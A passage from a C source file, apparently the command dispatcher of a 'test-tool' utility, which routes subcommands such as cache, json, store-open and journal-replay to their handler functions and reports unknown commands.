		return cmd_corpus(argc - 2, argv + 2);
	if (!strcmp(argv[1], "cache"))
		return cmd_cache(argc - 2, argv + 2);
	if (!strcmp(argv[1], "cases-mount"))
		return cmd_cases_mount(argc - 2, argv + 2);
	if (!strcmp(argv[1], "channel"))
		return cmd_channel(argc - 2, argv + 2);
	if (!strcmp(argv[1], "json"))
		return cmd_json(argc - 2, argv + 2);
	if (!strcmp(argv[1], "store-append"))
		return cmd_store_append(argc - 2, argv + 2);
	if (!strcmp(argv[1], "store-open"))
		return cmd_store_open(argc - 2, argv + 2);
	if (!strcmp(argv[1], "journal-append"))
		return cmd_journal_append(argc - 2, argv + 2);
	if (!strcmp(argv[1], "journal-replay"))
		return cmd_journal_replay(argc - 2, argv + 2);
	fprintf(stderr, "test-tool: unknown command '%s'\n", argv[1]);
	return 2;
}
